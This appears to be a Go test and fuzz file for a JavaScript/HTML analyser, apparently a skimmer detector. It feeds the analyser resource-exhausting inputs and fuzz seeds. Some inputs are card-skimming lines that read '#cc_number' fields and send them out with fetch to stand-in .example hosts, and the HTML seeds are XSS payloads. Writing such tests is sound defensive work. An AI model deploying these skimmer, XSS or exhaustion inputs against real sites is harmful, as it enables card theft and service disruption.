package script_test

import (
	"bytes"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch/script"
)

// Sources made to exhaust a parser, an interpreter or the machine that they run on.
func hostile() map[string]func() []byte {
	repeat := func(s string, n int) func() []byte { return func() []byte { return bytes.Repeat([]byte(s), n) } }
	nest := func(open, middle, shut string, n int) func() []byte {
		return func() []byte { return []byte(strings.Repeat(open, n) + middle + strings.Repeat(shut, n)) }
	}
	text := func(s string) func() []byte { return func() []byte { return []byte(s) } }
	return map[string]func() []byte{
		"2 MB of (":                  repeat("(", 2<<20),
		"2 MB of [":                  repeat("[", 2<<20),
		"2 MB of {":                  repeat("{", 2<<20),
		"2 MB of !":                  repeat("!", 2<<20),
		"2 MB of -~":                 repeat("-~", 1<<20),
		"2 MB of a=":                 repeat("a=", 1<<20),
		"2 MB of a=>":                repeat("a=>", 700_000),
		"2 MB of a?":                 repeat("a?", 1<<20),
		"2 MB of a?a:":               repeat("a?a:", 500_000),
		"2 MB of a**":                repeat("a**", 700_000),
		"2 MB of new":                repeat("new ", 500_000),
		"2 MB of typeof":             repeat("typeof ", 300_000),
		"2 MB of if":                 repeat("if(a)", 400_000),
		"2 MB of else":               repeat("if(a);else ", 200_000),
		"2 MB of for":                repeat("for(;;)", 300_000),
		"2 MB of do":                 repeat("do ", 700_000),
		"2 MB of labels":             repeat("a:", 1<<20),
		"2 MB of templates":          repeat("`${", 700_000),
		"2 MB of functions":          repeat("function f(){", 150_000),
		"2 MB of classes":            repeat("class A extends(", 130_000),
		"2 MB of await":              repeat("await ", 350_000),
		"2 MB of async arrows":       repeat("async(a=", 250_000),
		"default parameters":         nest("(a=", "1", ")=>1", 40),
		"async default parameters":   nest("async(a=", "1", ")=>1", 40),
		"closed parentheses":         nest("(", "1", ")", 500_000),
		"hidden from the lexer":      nest("a={}/(", "1", ")/1", 200_000),
		"a sum of many":              repeat("a+", 1_000_000),
		"a product of dots":          func() []byte { return []byte("a" + strings.Repeat(".b", 1_000_000)) },
		"a chain of calls":           func() []byte { return []byte("a" + strings.Repeat("()", 1_000_000)) },
		"a chain of indices":         func() []byte { return []byte("a" + strings.Repeat("[0]", 800_000)) },
		"a sequence of many":         repeat("a,", 1_000_000),
		"statements":                 repeat("a;", 2_400_000),
		"blocks":                     repeat("{}", 2_400_000),
		"holes of an array":          func() []byte { return []byte("x=[" + strings.Repeat(",", 4_900_000) + "]") },
		"objects":                    repeat("x={a:1,b:{}};", 380_000),
		"arrow functions":            repeat("f(a=>a);", 600_000),
		"functions":                  repeat("function f(){}", 350_000),
		"an open string":             func() []byte { return []byte("x='" + strings.Repeat("a", 4<<20)) },
		"an open template":           func() []byte { return []byte("x=`" + strings.Repeat("a", 4<<20)) },
		"an open comment":            func() []byte { return []byte("/*" + strings.Repeat("a", 4<<20)) },
		"an open regular expression": func() []byte { return []byte("x=/" + strings.Repeat("[a", 2<<20)) },
		"one long line of escapes":   func() []byte { return []byte("x='" + strings.Repeat(`\x41`, 1<<20) + "'") },
		"names":                      func() []byte { return []byte(strings.Repeat("a", 4<<20)) },
		"zeros":                      repeat("\x00", 4<<20),
		"50 MB":                      repeat("var a = function (b) { return b + 1; };\n", 1_300_000),
		"50 MB on one line":          repeat("document.querySelector('#cc_number').value;fetch('//x.example');", 800_000),
		"for ever":                   text("for(;;){}"),
		"for ever, busily":           text("var i=0,eval_;for(;;){i=(i*7+1)%1000003} eval('1')"),
		"in strings for ever":        text("var s='a';for(;;){s+=s} eval(s)"),
		"in one string for ever":     text("var s='';for(;;){s+='abcdefgh'} eval(s)"),
		"in arrays for ever":         text("var a=[1];for(;;){a=a.concat(a)} eval(1)"),
		"pushing for ever":           text("var a=[];for(;;){a.push(a)} eval(1)"),
		"objects for ever":           text("var o={};for(var i=0;;i++){o['k'+i]={p:o}} eval(1)"),
		"repeating":                  text("eval('x'.repeat(1e9).repeat(1e9))"),
		"padding":                    text("eval('x'.padStart(1e9,'y'))"),
		"joining":                    text("eval(Array(1e9).join(Array(1e9).join('x')))"),
		"replacing":                  text("var s='aaaaaaaaaaaaaaaa';for(var i=0;i<99;i++)s=s.replace(/a/g,s); eval(s)"),
		"splitting":                  text("var s='a,'.repeat(1e6);for(;;){s.split(',')} eval(s)"),
		"recursion":                  text("function f(){return f()+f()} f(); eval(1)"),
		"recursion over an argument": text("function f(n){return f(n+1)+f(n+2)} f(0); eval(1)"),
		"recursion of toString":      text("var o={};o.toString=function(){return ''+o};eval(''+o)"),
		"a list in itself":           text("var a=[];a.push(a,a,a,a,a,a,a,a);eval(a+'');fetch(a)"),
		"a prototype of itself":      text("function F(){} F.prototype=new F();F.prototype.constructor=F;eval(new F().x)"),
		"code that makes code":       text("var s='eval(s+s)';eval(s)"),
		"functions that make more":   text("function f(){return function(){return f()}} for(;;)f()(); eval(1)"),
		"evil pattern":               text("eval(/^(a+)+$/.test('a'.repeat(50000)+'b'))"),
		"large pattern":              text("eval(new RegExp('(a{1,900}){1,900}').test('a'))"),
		"sorting":                    text("var a=[];for(var i=0;i<9999;i++)a.push(i);a.sort(function(){a.length=0;return -1});eval(1)"),
		"shrinking":                  text("var a=[1,2,3];a.forEach(function(){a.length=0});a.map(function(){a.pop();a.pop()});a.reduce(function(){a=[]},0);eval(1)"),
		"numbers":                    text("eval([1e999,-0,NaN,1e21,.1+.2,0xffffffffff,1/3].map(function(n){return n.toString(36)+n.toFixed(99)+(n<<31)+(n>>>0)}).join())"),
		"what is not there":          text("null.a.b();undefined[0]();(void 0).call(null);eval(''.x.y.z);[].reduce(function(){})"),
		"many small scripts":         repeat("eval('1');", 200_000),
		"many sinks": func() []byte {
			var b bytes.Buffer
			for i := range 60_000 {
				fmt.Fprintf(&b, "fetch('https://h%d.example/'+document.querySelector('#cc%d').value);", i, i)
			}
			return b.Bytes()
		},
	}
}

// What the package promises for any source is 2 s and 200 MB on an idle core. This machine may be doing other things.
const (
	patience    = time.Minute
	memoryBound = 200 << 20
)

func TestNoSourceTakesItTooFar(t *testing.T) {
	for name, source := range hostile() {
		t.Run(name, func(t *testing.T) {
			src := source()
			peak := watchMemory(t)
			start := time.Now()
			a := script.Analyse(src, script.Options{})
			if spent := time.Since(start); spent > patience {
				t.Errorf("took %v", spent)
			}
			if n := peak(); n > memoryBound {
				t.Errorf("took %d MB", n>>20)
			}
			if strings.Contains(a.Partial, "failed") {
				t.Error(a.Partial)
			}
			if a.Parsed == "" || a.Verdict.Severity == 0 {
				t.Errorf("no answer: %+v", a)
			}
		})
	}
}

// watchMemory measures the most memory in use beyond what is in use now, until the function it gives is called.
func watchMemory(t *testing.T) func() uint64 {
	t.Helper()
	runtime.GC()
	inUse := func() uint64 {
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapInuse + m.StackInuse
	}
	before := inUse()
	done, result := make(chan struct{}), make(chan uint64)
	go func() {
		most := before
		tick := time.NewTicker(2 * time.Millisecond)
		defer tick.Stop()
		for {
			select {
			case <-done:
				result <- max(most, inUse()) - before
				return
			case <-tick.C:
				most = max(most, inUse())
			}
		}
	}()
	return func() uint64 { close(done); return <-result }
}

func FuzzAnalyse(f *testing.F) {
	for _, s := range []string{
		"eval(atob('YWxlcnQoMSk='))", "for(var i=0,s='';i<9;i++)s+=String.fromCharCode(i^7)", "class A extends B{#p=1;static{}}", "`a${b`c`}d`",
		"x=>{};async()=>{await 1};function*g(){yield*g()}", "({a,b:[c,...d]}={})", "try{throw 1}catch{}finally{}", "label:for(;;){continue label}", "a?.b?.[c]?.()",
		"new Function('a','return a')(1)", "'x'.replace(/(.)/g,function(a,b){return b+'$1'})", "[3,1,2].sort().reduce((a,b)=>a+b)", "document.write('<script>eval(1)</script>')",
		"switch(a){case 1:default:}", "with(a){b}", "var {a=1,...b}=c;[d,,e=2]=f", "a=/[/]/.test(b)/c/d", "<!-- x\n-->", "#!x\n", "\ufeffa", "\xff\xfe", "eval(function(p,a,c,k,e,d){return p}('a',1,1,'b'.split('|'),0,{}))",
		"do{}while(0)a++/b/c", "a\n++b", "import a from 'b';export{a};await a", "Object.defineProperty(a,'b',{get(){return 1}})", "window[['e','val'].join('')]('1')",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		start := time.Now()
		a := script.Analyse(src, script.Options{})
		if strings.Contains(a.Partial, "failed") {
			t.Fatal(a.Partial)
		}
		if spent := time.Since(start); spent > patience {
			t.Fatalf("took %v", spent)
		}
		checkPlaces(t, a)
		end := 0
		for _, s := range script.Statements(src) {
			if s.Start < end || s.End < s.Start {
				t.Fatalf("statements overlap: %+v after %d", s, end)
			}
			end = s.End
		}
	})
}

func FuzzAnalyseHTML(f *testing.F) {
	for _, s := range []string{
		"<script>eval(1)</script>", "<a href='javascript:alert(1)' onclick=\"f(&quot;x&quot;)\">", "<iframe srcdoc='<script>a</script>'>", "<script src=//x.example>", "<svg/onload=a()>",
		"<script><!--\nif(a<b)c\n//--></script>", "<script type=module>import a from 'b'", "<img src=x onerror=a", "<script", "<x y='", "<!doctype html><body onload=&#97;()>",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		for _, p := range script.AnalyseHTML(src, script.Options{}) {
			if strings.Contains(p.Analysis.Partial, "failed") {
				t.Fatal(p.Analysis.Partial)
			}
			checkPlaces(t, p.Analysis)
		}
	})
}

func FuzzStatements(f *testing.F) {
	for _, s := range []string{"function f(a){return a+1}", "a=/[/]/.test(b)/c/d", "`a${b`c`}d`;", "x='\\'';{;};", "for(;;){}", "({a:1,})", "<!-- x\n-->", "\xff\xfea\x00b", "/*", "'", "a\u2028b"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		end := 0
		for _, s := range script.Statements(src) {
			if s.Start < end || s.End <= s.Start {
				t.Fatalf("statements overlap or are empty: %+v after %d", s, end)
			}
			end = s.End
		}
		if once, twice := script.Digest(src), script.Digest(src); once != twice {
			t.Fatal("two digests of one source")
		}
	})
}

func checkPlaces(t *testing.T, a *script.Analysis) {
	t.Helper()
	for _, s := range append(append(append([]script.Span{}, a.Verdict.Reasons...), a.Sources...), a.Dynamic...) {
		if s.Line < 1 || s.Column < 1 {
			t.Fatalf("no such place: %+v", s)
		}
	}
}
